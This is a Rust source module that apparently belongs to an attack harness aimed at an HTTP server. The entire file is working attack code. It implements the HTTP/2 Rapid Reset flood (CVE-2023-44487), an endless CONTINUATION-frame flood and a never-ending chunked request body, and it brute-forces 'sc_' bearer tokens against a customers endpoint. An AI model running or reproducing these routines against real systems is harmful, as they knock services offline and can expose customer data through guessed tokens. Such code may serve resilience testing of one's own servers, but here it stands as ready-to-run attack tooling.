//! Those who send without an end: frames of HTTP/2, chunks of a body, guesses at a token.

use std::io;
use std::sync::Arc;

use tokio::io::{AsyncWriteExt, BufReader};
use tokio::net::TcpStream;

use super::slow::body_head;
use super::target::{CUSTOMERS, Target, answer, get};
use super::wire::frame::{
    CONTINUATION, END_HEADERS, END_STREAM, HEADERS, Method, PREFACE, RST_STREAM, SETTINGS, frame,
    head,
};

/// Streams, or frames, that are sent at once.
const BURST: u32 = 500;

/// The reason of a stream that its client gave up (RFC 9113, section 7).
const CANCEL: u32 = 8;

/// Lists of all customers that are given up as soon as they were asked for (CVE-2023-44487).
pub async fn rapid_reset(target: Arc<Target>) -> io::Result<()> {
    let mut stream = open_http2(&target).await?;
    let bearer = format!("Bearer {}", target.hostile);
    let list = head(Method::Get, CUSTOMERS, &[("authorization", &bearer)]);
    for first in (0..).step_by(BURST as usize) {
        let mut burst = Vec::new();
        for number in first..first + BURST {
            burst.extend(frame(HEADERS, END_HEADERS | END_STREAM, 2 * number + 1, &list));
            burst.extend(frame(RST_STREAM, 0, 2 * number + 1, &CANCEL.to_be_bytes()));
        }
        stream.write_all(&burst).await?;
        target.did(u64::from(BURST));
    }
    Ok(())
}

/// A head that goes on frame by frame.
pub async fn continuation(target: Arc<Target>) -> io::Result<()> {
    let mut stream = open_http2(&target).await?;
    let list = head(Method::Get, CUSTOMERS, &[]);
    stream.write_all(&frame(HEADERS, END_STREAM, 1, &list)).await?;
    let field = [&[0, 1, b'a', 100][..], &[b'b'; 100]].concat();
    let more = frame(CONTINUATION, 0, 1, &field.repeat(10));
    loop {
        stream.write_all(&more).await?;
        target.did(1);
    }
}

async fn open_http2(target: &Target) -> io::Result<TcpStream> {
    let mut stream = target.infiltrate().await?;
    stream.write_all(&[PREFACE, &frame(SETTINGS, 0, 0, b"")].concat()).await?;
    Ok(stream)
}

/// A body in chunks that goes on and on.
pub async fn chunks(target: Arc<Target>) -> io::Result<()> {
    let mut stream = target.infiltrate().await?;
    let head = body_head(&target, "application/json", "Transfer-Encoding: chunked");
    stream.write_all(head.as_bytes()).await?;
    let chunk = [b"1000\r\n", &[b' '; 0x1000][..], b"\r\n"].concat();
    loop {
        stream.write_all(&chunk).await?;
        target.did(1);
    }
}

/// One token after the other.
pub async fn guesses(target: Arc<Target>) -> io::Result<()> {
    let mut stream = BufReader::new(target.infiltrate().await?);
    loop {
        let guess = get(CUSTOMERS, &format!("sc_{:043}", target.number()));
        stream.write_all(guess.as_bytes()).await?;
        if answer(&mut stream).await?.is_none() {
            return Ok(());
        }
        target.did(1);
    }
}
